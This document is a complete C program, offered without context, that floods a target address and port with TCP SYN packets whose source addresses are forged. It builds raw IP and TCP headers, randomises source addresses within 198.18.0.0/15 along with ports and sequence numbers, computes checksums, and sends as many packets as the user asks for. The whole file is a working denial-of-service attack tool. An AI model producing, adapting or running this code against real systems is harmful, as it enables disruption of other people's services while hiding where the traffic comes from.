// "flood ADDRESS PORT COUNT": SYNs from addresses that nobody has.
#include <arpa/inet.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned sum(const void *data, int length, unsigned sum)
{
    const unsigned char *bytes = data;
    for (int i = 0; i + 1 < length; i += 2)
        sum += bytes[i] << 8 | bytes[i + 1];
    return sum;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[1]) };
    struct { struct iphdr ip; struct tcphdr tcp; unsigned char mss[4]; } __attribute__((packed)) packet;
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    long sent = 0;
    for (long left = atol(argv[3]); left > 0; left--) {
        memset(&packet, 0, sizeof packet);
        packet.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof packet), .daddr = to.sin_addr.s_addr };
        packet.ip.saddr = htonl(0xc6120000 | (random() & 0x1ffff));
        packet.tcp = (struct tcphdr){ .source = htons(1024 + random() % 60000), .dest = htons(atoi(argv[2])), .seq = random(), .doff = 6, .syn = 1, .window = htons(64000) };
        memcpy(packet.mss, "\2\4\5\xb4", 4);
        unsigned check = sum(&packet.tcp, sizeof packet - sizeof packet.ip, sum(&packet.ip.saddr, 8, IPPROTO_TCP + sizeof packet - sizeof packet.ip));
        check = (check & 0xffff) + (check >> 16);
        packet.tcp.check = htons(~(check + (check >> 16)));
        if (sendto(s, &packet, sizeof packet, 0, (void *)&to, sizeof to) > 0)
            sent++;
        else
            usleep(100);
    }
    printf("%ld sent\n", sent);
    return sent == 0;
}
